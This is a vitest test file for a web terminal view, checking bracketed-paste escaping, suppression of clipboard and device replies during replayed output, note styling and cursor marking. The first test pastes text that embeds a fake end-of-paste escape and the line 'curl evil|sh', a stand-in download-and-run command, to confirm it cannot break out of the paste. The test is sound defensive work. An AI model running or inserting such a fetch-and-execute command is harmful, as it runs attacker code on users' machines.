import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { TerminalView } from "./terminal.ts";

const bytes = new TextEncoder();
let typed: string;
let copied: string[];
let view: TerminalView;

beforeEach(() => {
  typed = "";
  copied = [];
  // What measures letters has no canvas here, and no need of one.
  vi.spyOn(HTMLCanvasElement.prototype, "getContext").mockReturnValue(null);
  view = new TerminalView({
    input: (data) => {
      typed += new TextDecoder().decode(data);
    },
    resize: () => {},
    bell: () => {},
    key: () => {},
    copied: () => {},
    paste: () => {},
    clipboard: (text) => copied.push(text),
    isSplit: () => false,
  });
  view.show(document.body);
});
afterEach(() => {
  view.dispose();
  vi.restoreAllMocks();
});

const print = (text: string) => new Promise<void>((parsed) => view.write(bytes.encode(text), parsed));

describe("a paste in a terminal", () => {
  it("stands in brackets that nothing in it ends", async () => {
    await print("\x1b[?2004h");
    view.paste("hi\x1b[20\x1b[201~1~\ncurl evil|sh\n");
    expect(typed).toBe("\x1b[200~hi\x1b[20␛[201~1~\rcurl evil|sh\r\x1b[201~");
  });
});

describe("old output that comes once more", () => {
  it("sets no clipboard and answers nothing; what is printed after it does", async () => {
    let over = () => {};
    vi.spyOn(globalThis, "setTimeout").mockImplementationOnce((call) => {
      over = call;
      return 0 as unknown as ReturnType<typeof setTimeout>;
    });
    view.replay(1_000);
    await print("\x1b]52;c;b2xk\x07\x1b[c");
    expect([copied, typed]).toEqual([[], ""]);
    over();
    await print("\x1b]52;c;bmV3\x07\x1b[c");
    expect([copied, typed]).toEqual([["new"], "\x1b[?1;2c"]);
  });
});

describe("a line of the page's own", () => {
  it("is grey by the palette, which keeps its contrast, and not dim", async () => {
    await new Promise<void>((parsed) => view.note("same shell resumed", parsed));
    expect(view.picture(10_000)?.screen).toContain("\x1b[90m── same shell resumed ──");
  });
});

it.each([
  ["in its upper half", "one\r\n$ ", true],
  ["in its lower half", "\r\n".repeat(20), false],
  ["in a full-screen program", "\x1b[?1049h\x1b[H", false],
  ["after such a program", "$ \x1b[?1049h\x1b[24H\x1b[?1049l", true],
])("marks where one types %s", async (_, text, high) => {
  await print(text);
  expect(document.body.lastElementChild?.hasAttribute("data-cursor-high")).toBe(high);
});
